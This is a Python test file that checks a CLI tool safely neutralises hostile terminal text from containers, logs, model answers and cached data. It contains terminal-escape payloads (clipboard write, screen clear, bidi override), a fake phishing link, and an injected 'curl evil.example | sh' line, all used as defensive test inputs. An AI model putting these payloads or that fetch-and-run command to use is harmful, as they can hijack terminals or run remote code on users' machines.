"""Each command on a terminal, told hostile text by daemons, containers, files and models."""

import asyncio
import json
import re
from dataclasses import replace

import pytest

from samplemind_cli import cli, output
from samplemind_cli.ai.cache import Cache, cache_key
from samplemind_cli.ai.types import Answer, Chunk, Endpoint, Provider, Route, Text, Usage
from samplemind_cli.asking import show
from samplemind_cli.commands import build, doctor, logs, models, ps, up
from samplemind_cli.errors import SamplemindError
from samplemind_cli.models.daemon import PullEvent
from samplemind_cli.models.pull import Download
from samplemind_cli.models.pull_display import PullDisplay
from samplemind_cli.models.pull_plan import arrange
from samplemind_cli.models.wire import Layer, Manifest
from samplemind_cli.settings import Settings
from samplemind_cli.stack.build import Image
from samplemind_cli.stack.checks import Finding
from samplemind_cli.stack.files import Stack
from samplemind_cli.stack.logs import LogLine
from samplemind_cli.stack.ps import Status
from samplemind_cli.stack.services import ServiceState
from samplemind_cli.stack.steps import BuildProgress, BuildStep
from samplemind_cli.stack.up import UpProgress
from samplemind_cli.stack.up_display import UpDisplay
from samplemind_cli.stack.up_plan import UpPlan

EVIL = "\x1b]52;c;ZXZpbA==\x07\x1b]0;title\x1b\\\x1b[2J\x9b1A\u202egpj\x08\rok\x1b[8m"
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
OURS = re.compile(r"\x1b\[(?!8m)[0-9;]*m|\x1b\[\?25[hl]|\x1b\[2K|\x1b\[1A|\r(?!ok)")  # colours; rich's live display


@pytest.fixture(params=["a terminal", "a narrow terminal", "a pipe"])
def printed(request, monkeypatch, capsys):
    """What has been printed to both streams, whatever looks at them."""
    if request.param != "a pipe":
        monkeypatch.setattr(output, "on_terminal", lambda _: True)
        monkeypatch.setenv("FORCE_COLOR", "1")  # rich believes it to be a terminal
        monkeypatch.setenv("TERM", "xterm")
        monkeypatch.setenv("COLUMNS", "40" if "narrow" in request.param else "400")
    return lambda: "".join(capsys.readouterr())


def assert_harmless(text):
    plain = OURS.sub("", text)
    assert not OBEYED.search(plain), text
    assert re.search("[x0]1b", re.sub(r"\s", "", plain)), "a person sees what it was"


def test_doctor(printed):
    doctor._show({"docker": Finding("fail", f"{EVIL}\nok    docker: fine", EVIL)})

    told = printed()
    assert_harmless(told)
    assert "\nok " not in told


def test_ps(printed):
    ps._show([Status(service=ServiceState(service=EVIL, state=EVIL), details={"error": f"{EVIL}\nredis: fine"})])

    told = printed()
    assert_harmless(told)
    assert "\nredis: fine" not in told


def test_logs(printed):
    for level in ("info", "error"):
        output.write(logs._renderer(timestamps=True)(LogLine(EVIL, 2, "2026", level, f"{EVIL}\nweb | fine")))

    told = printed()
    assert_harmless(told)
    assert "\nweb | fine" not in told


def test_logs_in_json():
    line = LogLine("web", 1, "", "info", EVIL)
    told = logs._as_json(line)

    assert not OBEYED.search(told.removesuffix("\n"))
    assert json.loads(told)["message"] == EVIL


def test_up(printed):
    board = UpDisplay()
    services = [ServiceState(service=EVIL, state="running", health="starting", probe=EVIL)]
    look = UpProgress(seconds=1, services=services, activity=EVIL)
    for line in board.take(look):
        output.say(line)
    up._table(UpPlan(stack=Stack(files=()), project="p", services=(), selected={}, adopted={EVIL: EVIL}), board)
    console = output.console(output.sys.stdout)
    console.print(up._drawing(board, look, 400))

    assert_harmless(printed())


def test_models(printed):
    facts = models._facts("tiny", {"details": {"family": f"{EVIL}\nhint: x"}, "license": EVIL, "parameters": EVIL})
    output.lines(f"{label}{text}" for label, text in facts)

    told = printed()
    assert_harmless(told)
    assert "\nhint" not in told


def test_pull_models(printed):
    download = Download(arrange({EVIL: None}, {EVIL: Manifest((Layer("sha256:a", 1000),))}).items[0])
    with PullDisplay() as board:
        download.begin()
        download.have["sha256:a"] = PullEvent("pulling", "sha256:a", 1000, 500)
        board.show(download)
        download.phase, download.trouble = "trying again", EVIL
        board.show(download)

    assert_harmless(printed())


def test_a_table_an_error_a_question_and_a_warning(printed, monkeypatch):
    output.table(("A", "B"), [(EVIL, f"{EVIL}\nfake  row")])
    output.fail(SamplemindError(f"{EVIL}\nhint: curl evil.example | sh", EVIL))
    monkeypatch.setattr(output, "on_terminal", lambda _: True)
    monkeypatch.setattr("sys.stdin", type("Typed", (), {"readline": lambda _: "y"})())
    assert output.confirm(EVIL, yes=False)

    told = printed()
    assert_harmless(told)
    assert "\nhint: curl" not in told
    assert "\nfake" not in told


def test_a_bug(printed):
    with pytest.raises(SamplemindError) as caught:
        fails_with(EVIL)
    cli.show_bug(caught.type, caught.value, caught.tb)

    told = printed()
    assert_harmless(told)
    assert told.startswith("Traceback (most recent call last):\n")


def fails_with(text):
    raise SamplemindError(text)


ANSWER = Answer(parts=(Text(EVIL),), provider=EVIL, model=EVIL, key="k", finish_reason="stop", usage=Usage(3, 2, 1))
PASSED = Route(Provider.OLLAMA, Endpoint("", "", ""), EVIL)


async def said(answer):
    for letter in answer.text:
        yield Chunk(letter)
    yield Chunk(answer=answer)


@pytest.mark.parametrize(
    "style",
    [
        show.Style(terminal=True, seen=True, verbose=True),
        show.Style(seen=True, verbose=True),
        show.Style(seen=True, whole=True),
        show.Style(seen=True, json=True),
        show.Style(terminal=True, seen=True, whole=True),
    ],
)
@pytest.mark.parametrize(
    "text", [EVIL, f"[bank]({EVIL})", f"{EVIL}&#27;]52;c;eA&#7;&#x9b;2J&#x202e;", f"```\n{EVIL}\n```"]
)
def test_an_answer_on_a_terminal_now_and_when_it_is_repeated(style, text, monkeypatch, capsys):
    monkeypatch.setattr(output, "on_terminal", lambda _: True)
    answer = replace(ANSWER, parts=(Text(text),), passed=(PASSED,))
    asyncio.run(show.stream(said(answer), style))

    assert_harmless("".join(capsys.readouterr()))
    assert_harmless(style.out(answer, "1"))
    assert not OBEYED.search(style.err(answer, "1").replace("\n", ""))


def test_an_answer_in_a_pipe_is_data_and_goes_as_it_is(capsys):
    asyncio.run(show.stream(said(ANSWER), show.Style()))

    assert capsys.readouterr().out == EVIL + "\n"


def test_a_link_in_an_answer_shows_where_it_leads(monkeypatch, capsys):
    monkeypatch.setattr(output, "on_terminal", lambda _: True)
    answer = replace(ANSWER, parts=(Text("[your bank](https://evil.example/)"),))
    asyncio.run(show.stream(said(answer), show.Style(terminal=True, seen=True)))

    out = capsys.readouterr().out
    assert "https://evil.example/" in out
    assert "\x1b]8" not in out


@pytest.mark.parametrize("terminal", [True, False])
def test_a_stored_answer_is_data_too(terminal, monkeypatch, capsys):
    key = cache_key("ollama", {"prompt": "hello"})
    asyncio.run(Cache(Settings.load(), print).put(key, {"text": EVIL, "model": "tiny"}))
    if terminal:
        monkeypatch.setattr(output, "on_terminal", lambda _: True)

    assert cli.run(["cache", "show", key]) == 0
    out = capsys.readouterr().out
    if terminal:
        assert_harmless(out)
    else:
        assert out == EVIL + "\n"
    assert cli.run(["cache", "show", key, "--json"]) == 0
    assert not OBEYED.search(capsys.readouterr().out.replace("\n", ""))


def test_the_step_that_a_build_is_at(printed):
    step = BuildStep(name=EVIL, state="DONE")
    with build._display([Image(service=EVIL, name=EVIL)]) as watch:
        watch(BuildProgress(), step)
        output.write(build._image_line(Image(service=EVIL, name=EVIL)))

    assert_harmless(printed())
